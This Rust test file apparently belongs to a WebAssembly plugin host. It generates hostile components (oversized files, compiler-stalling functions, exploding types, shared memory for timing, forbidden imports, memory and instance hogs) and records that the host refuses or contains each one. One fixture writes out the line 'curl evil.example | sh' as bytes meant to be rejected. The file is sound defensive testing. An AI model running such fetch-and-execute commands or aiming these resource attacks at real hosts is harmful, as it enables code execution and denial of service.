//! What a file can try before anything of it runs: its size, its format, its types, its imports and exports.

use std::fmt::Write as _;

use crate::guest::{Base, CONTRACT, Policy, Rater};
use crate::{Ending, HostileComponent, Recipe};

/// The most that the host compiles, in bytes. Written here again, so that a host with another limit is noticed.
const COMPONENT_BYTES_MAX: usize = 32 << 20;

const fn entry(name: &'static str, tries: &'static str, ending: Ending, make: fn() -> Vec<u8>) -> HostileComponent {
    HostileComponent { name, role: "rating", tries, ending, recipe: Recipe::Artifact(make) }
}

const fn refused(says: &'static str) -> Ending {
    Ending::Refused { says }
}

const CANNOT_COMPILE: Ending = refused("is not a component that this host can compile");

pub(crate) const ALL: &[HostileComponent] = &[
    entry("giant-component", "is larger than 32 MiB", refused("the host compiles at most 33554432"), || padded(COMPONENT_BYTES_MAX + 1)),
    entry("padded-component", "is exactly 32 MiB long, nearly all of it padding", Ending::Contained, || padded(COMPONENT_BYTES_MAX)),
    entry("slow-to-compile", "keeps the compiler busy with one function of 4,000 jumps", Ending::Contained, slow_to_compile),
    entry(
        "giant-function",
        "has one function of 40,000 jumps, for which the compiler needs far more than ten times as long as for 4,000",
        refused("bytes of code in one function; the host compiles at most 524288"),
        || with_module(&assemble(&busy_module(40_000)), 1),
    ),
    entry(
        "much-code",
        "has 17 MiB of code in functions that are small enough each",
        refused("bytes of code in its functions; the host compiles at most 16777216"),
        || with_module(&idle_module(68, 256 << 10), 1),
    ),
    entry("no-wasm", "is a shell script", CANNOT_COMPILE, || b"#!/bin/sh\ncurl evil.example | sh\n".to_vec()),
    entry("empty-file", "is empty", CANNOT_COMPILE, Vec::new),
    entry("core-module", "is a core module, not a component", refused("is a core WebAssembly module, not a component"), || {
        assemble("(module)")
    }),
    entry("cut-short", "ends in the middle", CANNOT_COMPILE, || {
        let mut bytes = Rater::SOUND.component();
        bytes.truncate(bytes.len() / 2);
        bytes
    }),
    entry("invalid-code", "has a function whose body does not type-check", CANNOT_COMPILE, || {
        assemble("(component (core module $m (func (result i32) (i64.const 1))) (core instance (instantiate $m)))")
    }),
    entry("native-code", "is machine code that claims to be compiled already", CANNOT_COMPILE, || {
        b"\x7fELF\x02\x01\x01 not yours".to_vec()
    }),
    entry("nested-types", "has a type of 2,000 lists in each other", CANNOT_COMPILE, || {
        let mut text = "(component (type $t0 (list u8))".to_owned();
        for depth in 1..2_000 {
            write!(text, "(type $t{depth} (list $t{}))", depth - 1).expect("writing to a string cannot fail");
        }
        assemble(&(text + r#"(import "deep" (func (param "x" $t1999))))"#))
    }),
    entry("exploding-types", "has a type that doubles 40 times", CANNOT_COMPILE, || {
        let mut text = "(component (type $t0 (tuple u8 u8))".to_owned();
        for depth in 1..40 {
            let before = depth - 1;
            write!(text, "(type $t{depth} (tuple $t{before} $t{before}))").expect("writing to a string cannot fail");
        }
        assemble(&(text + r#"(import "wide" (func (param "x" $t39))))"#))
    }),
    entry("wide-memory", "wants a memory with 64-bit addresses", CANNOT_COMPILE, || {
        assemble("(component (core module $m (memory i64 1)) (core instance (instantiate $m)))")
    }),
    entry("shared-memory", "wants a memory that threads could share, to build a clock", CANNOT_COMPILE, || {
        assemble("(component (core module $m (memory 1 1 shared)) (core instance (instantiate $m)))")
    }),
    entry("relaxed-arithmetic", "wants instructions whose results differ between processors", CANNOT_COMPILE, || {
        assemble(
            "(component (core module $m (func (param v128 v128) (result v128) (i8x16.relaxed_swizzle (local.get 0) (local.get 1))))
             (core instance (instantiate $m)))",
        )
    }),
    entry("shell-import", "imports an interface that runs commands", refused("imports evil:host/shell;"), || {
        importing("evil:host", "shell", r#"(import "evil:host/shell" "run" (func $run))"#)
    }),
    entry(
        "wasi-import",
        "imports WASI that the queue does not grant",
        refused("imports wasi:cli/stdout@0.2.6; this queue grants no WASI"),
        || importing("wasi:cli@0.2.6", "stdout", r#"(import "wasi:cli/stdout@0.2.6" "run" (func $run))"#),
    ),
    entry("future-version", "was built for version 2 of the contract", refused("was built for version 2.0.0 of ranked:plugin/log"), || {
        Rater::SOUND.component_of_version("2.0.0")
    }),
    entry("wrong-role", "is a policy in the place of a rating engine", refused("it fills `policy`"), || Policy::SOUND.component()),
    entry("wrong-types", "has the right functions with other types", refused("does not fit version 1.0.0 of the plugin contract"), || {
        let contract = CONTRACT.replace("uncertainty: f64,", "doubt: f64,");
        Rater::SOUND.component_for(&[&contract], "rating")
    }),
    entry(
        "instance-bomb",
        "brings 100 core instances, to take the places of other plugins",
        Ending::FaultAtLoad { function: "describe", code: "bad-output" },
        || with_module(&assemble("(module)"), 100),
    ),
    entry(
        "memory-hog",
        "brings 10 memories that it never uses, so that a few calls at once hold all that there are",
        Ending::FaultAtLoad { function: "describe", code: "bad-output" },
        || with_module(&assemble("(module (memory 1))"), 10),
    ),
];

fn assemble(text: &str) -> Vec<u8> {
    wat::parse_str(text).expect("the text is WebAssembly")
}

/// A sound component that is `len` bytes long: the rest is one custom section.
fn padded(len: usize) -> Vec<u8> {
    let mut bytes = Rater::SOUND.component();
    // Section 0, its size in 5 bytes, an empty name.
    let rest = len - bytes.len() - 6;
    bytes.push(0);
    bytes.extend(leb128_of_five(rest));
    bytes.resize(len, 0);
    bytes
}

/// LEB128 with as many bytes as the longest 32-bit number needs.
fn leb128_of_five(number: usize) -> [u8; 5] {
    std::array::from_fn(|index| {
        let bits = u8::try_from(number >> (7 * index) & 0x7f).expect("seven bits");
        if index < 4 { bits | 0x80 } else { bits }
    })
}

/// Imports `run` and would call it at once.
fn importing(package: &str, interface: &str, import: &'static str) -> Vec<u8> {
    let world = format!(
        "package {package};\ninterface {interface} {{ run: func(); }}\n\
         world foreign {{ import {interface}; include ranked:plugin/rating@1.0.0; }}"
    );
    let base = Base { imports: import, describe: "(call $run) unreachable", ..Base::SOUND };
    Rater { base, ..Rater::SOUND }.component_for(&[CONTRACT, &world], "foreign")
}

/// A sound engine with a function that nobody calls and that takes a second to compile.
fn slow_to_compile() -> Vec<u8> {
    with_module(&assemble(&busy_module(4_000)), 1)
}

fn busy_module(jumps: usize) -> String {
    let mut text = "(module (func (param i32) (result i32) (local i32 i32 i32 i32)".to_owned();
    for jump in 0..jumps {
        let (to, from) = (1 + jump % 4, 1 + (jump / 4) % 4);
        write!(text, "(if (i32.gt_u (local.get 0) (local.get {from})) (then (local.set {to} (i32.mul (local.get {from}) (local.get 0)))))")
            .expect("writing to a string cannot fail");
    }
    text + "(local.get 1)))"
}

/// A module with so many functions of so many bytes each, which do nothing.
fn idle_module(functions: u32, bytes: usize) -> Vec<u8> {
    let mut module = b"\0asm\x01\0\0\0".to_vec();
    // One type, without parameters and results.
    section(&mut module, 1, &[1, 0x60, 0, 0]);
    let count = leb128(functions);
    section(&mut module, 3, &[count.as_slice(), &vec![0; functions as usize]].concat());
    let mut code = count;
    for _ in 0..functions {
        code.extend(leb128_of_five(bytes));
        // No locals, `nop` to the end, `end`.
        code.push(0);
        code.resize(code.len() + bytes - 2, 1);
        code.push(0x0b);
    }
    section(&mut module, 10, &code);
    module
}

/// A sound component with one core module more, instantiated so many times. Sections may be appended to a component in any order.
fn with_module(module: &[u8], instances: u32) -> Vec<u8> {
    let mut bytes = Rater::SOUND.component();
    let index = core_modules(&bytes);
    section(&mut bytes, 1, module);
    // A vector of `instantiate module index, no arguments`.
    let mut body = leb128(instances);
    for _ in 0..instances {
        body.push(0);
        body.extend(leb128(index));
        body.push(0);
    }
    section(&mut bytes, 2, &body);
    bytes
}

fn section(bytes: &mut Vec<u8>, id: u8, content: &[u8]) {
    bytes.push(id);
    bytes.extend(leb128_of_five(content.len()));
    bytes.extend_from_slice(content);
}

fn leb128(number: u32) -> Vec<u8> {
    let mut rest = number;
    let mut bytes = Vec::new();
    loop {
        let low = (rest & 0x7f) as u8;
        rest >>= 7;
        if rest == 0 {
            bytes.push(low);
            return bytes;
        }
        bytes.push(low | 0x80);
    }
}

/// How many core modules a component holds: the sections with id 1.
fn core_modules(component: &[u8]) -> u32 {
    let mut rest = &component[8..];
    let mut modules = 0;
    while let Some((&id, after)) = rest.split_first() {
        let bytes = after.iter().position(|byte| byte & 0x80 == 0).expect("a size ends") + 1;
        let len = after[..bytes].iter().rev().fold(0, |len, &byte| len << 7 | usize::from(byte & 0x7f));
        modules += u32::from(id == 1);
        rest = &after[bytes + len..];
    }
    modules
}
